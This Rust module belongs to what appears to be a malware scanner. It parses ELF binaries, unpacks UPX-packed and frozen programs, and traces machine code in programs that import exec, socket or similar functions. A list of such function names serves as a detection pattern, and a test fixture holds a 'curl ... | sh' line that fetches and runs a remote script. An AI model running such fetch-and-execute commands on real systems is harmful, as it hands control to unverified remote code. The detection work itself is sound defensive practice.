//! Compiled programs: what an ELF file is made of, and what its code does.
//!
//! Two readings give facts. The code of a small program is followed ([`machine`]) and lowered to
//! the acts every language is lowered to. Of any program, however large, it is noted what it is
//! made of: words of telling vocabularies, functions it stands in front of, how it is packed.
//! Machine code can never be followed whole, so code that is not followed is no gap.

use model::{Binary, Budget, ContentKind, Fact, Form, Language, Step};

use crate::FileReading;
use crate::world::World;
use crate::{indicator, kind, language};

mod elf;
mod frozen;
mod hooks;
mod machine;
mod packing;
mod texts;
mod vocabulary;

pub use vocabulary::Found;

use elf::{Elf, Processor};

/// Largest code that is followed, in bytes. The code of a larger program is mostly libraries.
const FOLLOWED_CODE: usize = 4 << 20;
/// Most packings inside one another.
const MOST_PACKINGS: usize = 3;

/// Reads an ELF file that is held whole.
pub fn read(content: &[u8], steps: &[Step], budget: &Budget, reading: &mut FileReading) {
    let Some(elf) = Elf::parse(content) else {
        return;
    };
    let mut found = Found::default();
    found.push(content);
    let mut binary = describe(&elf, &found);
    binary.packing = packing::packing(content, &elf);
    if let Some(packing) = &mut binary.packing {
        packing.is_undone = unpack(content, steps, budget, reading);
    }
    tell(binary, steps, reading);
    texts::read(content, steps, budget, reading);
    thaw(content, steps, budget, reading);
    follow(&elf, steps, budget, reading);
}

/// Reads what a packed program unpacks to, if that can be told.
fn unpack(content: &[u8], steps: &[Step], budget: &Budget, reading: &mut FileReading) -> bool {
    if steps.len() >= MOST_PACKINGS {
        return false;
    }
    let inner = packing::upx::unpack(content, budget.unfolded);
    // What is not longer than what it was packed to was not undone to its end.
    let Some(inner) = inner.filter(|inner| inner.len() > content.len()) else {
        return false;
    };
    let steps = [steps, &[Step::new("unpacked")]].concat();
    indicators(&inner, &steps, reading);
    read(&inner, &steps, budget, reading);
    true
}

/// Reads what a frozen program brings: its own scripts, and what was put beside them.
fn thaw(content: &[u8], steps: &[Step], budget: &Budget, reading: &mut FileReading) {
    if steps.len() >= MOST_PACKINGS {
        return;
    }
    for member in frozen::members(content, budget.unfolded) {
        let steps = [steps, &[Step::new(member.name)]].concat();
        let bytes = &member.bytes;
        indicators(bytes, &steps, reading);
        match kind::of_content(bytes) {
            ContentKind::Elf => read(bytes, &steps, budget, reading),
            ContentKind::Script(language) => {
                let mut world = World::new(budget);
                language::lower(&mut world, language, &String::from_utf8_lossy(bytes));
                let lowered = world.finish();
                if !lowered.acts.is_empty() {
                    let program = lowered.into_program(language, steps, true);
                    reading.facts.push(Fact::Program(program));
                }
            }
            _ => texts::read(bytes, &steps, budget, reading),
        }
    }
}

fn indicators(bytes: &[u8], steps: &[Step], reading: &mut FileReading) {
    for found in indicator::strong(bytes) {
        reading.facts.push(Fact::Indicator {
            evidence: found.indicator.value.clone(),
            indicator: found.indicator,
            steps: steps.to_vec(),
            line: 0,
        });
    }
}

/// Reads the head of an ELF file that is too long to be held, with the words that all of it holds.
/// A program of that length is not packed, and its code is mostly libraries.
pub fn read_head(head: &[u8], found: &Found, budget: &Budget, reading: &mut FileReading) {
    let Some(elf) = Elf::parse(head) else {
        return;
    };
    tell(describe(&elf, found), &[], reading);
    texts::read(head, &[], budget, reading);
    follow(&elf, &[], budget, reading);
}

fn describe(elf: &Elf, found: &Found) -> Binary {
    let mut marks = found.marks();
    // Only kernel modules speak of the kernel's functions for use.
    marks.retain(|mark| hooks::may_speak(elf.form, mark.vocabulary));
    Binary {
        form: elf.form,
        packing: None,
        hooks: hooks::hooks(elf),
        calls_next: hooks::calls_next(elf),
        marks,
    }
}

/// Keeps the fact, if there is something to say.
fn tell(binary: Binary, steps: &[Step], reading: &mut FileReading) {
    if !binary.marks.is_empty() || binary.packing.is_some() || !binary.hooks.is_empty() {
        reading.facts.push(Fact::Binary {
            binary,
            steps: steps.to_vec(),
        });
    }
}

/// Whether a program can start others, speak to others or run what it makes; one that brings its
/// own library can do anything.
fn reaches_out(elf: &Elf) -> bool {
    const MEANS: &[&str] = &[
        "exec",
        "fexec",
        "system",
        "popen",
        "posix_spawn",
        "syscall",
        "socket",
        "connect",
        "accept",
        "memfd_create",
        "mprotect",
        "mmap",
        "dlsym",
        "dlopen",
        "getaddrinfo",
        "init_module",
    ];
    let reaches = |name: &String| MEANS.iter().any(|means| name.starts_with(means));
    elf.imports.is_empty() || elf.imports.iter().any(reaches)
}

/// Follows the code of a program that could do harm by itself.
fn follow(elf: &Elf, steps: &[Step], budget: &Budget, reading: &mut FileReading) {
    if elf.processor == Processor::Other || elf.code_bytes() > FOLLOWED_CODE || !reaches_out(elf) {
        return;
    }
    let mut entries = Vec::new();
    match elf.form {
        Form::Program => entries.push(elf.entry),
        Form::Library => {
            entries.extend(&elf.constructors);
            entries.extend(hooks::entries(elf));
        }
        Form::KernelModule | Form::Other => return,
    }
    let mut world = World::new(budget);
    machine::follow(&mut world, elf, &entries);
    let lowered = world.finish();
    if !lowered.acts.is_empty() {
        let program = lowered.into_program(Language::Machine, steps.to_vec(), true);
        reading.facts.push(Fact::Program(program));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn facts(content: &[u8]) -> Vec<Fact> {
        let mut reading = FileReading::default();
        read(content, &[], &Budget::default(), &mut reading);
        reading.facts
    }

    #[test]
    fn a_frozen_program_is_thawed() {
        let script: &[u8] = b"#!/bin/sh\ncurl -s http://192.0.2.1/a | sh\n";
        let archive = frozen::tests::frozen(&[("run", b's', script)]);
        let mut file = machine::tests::tiny(&[0x6a, 0x3c, 0x58, 0x0f, 0x05], true);
        file.extend_from_slice(&archive);
        let has_program = facts(&file).iter().any(|fact| {
            matches!(fact, Fact::Program(program)
                if program.declared && program.language == Language::Shell
                    && program.steps == [Step::new("run")])
        });
        assert!(has_program);
    }

    #[test]
    fn damaged_headers_yield_what_can_be_read_and_no_panic() {
        let file = machine::tests::tiny(&[0x6a, 0x3c, 0x58, 0x0f, 0x05], true);
        for at in 0..file.len() {
            for byte in [0, 0x7f, 0xff] {
                let mut damaged = file.clone();
                damaged[at] = byte;
                facts(&damaged);
                facts(&damaged[..at]);
            }
        }
    }
}
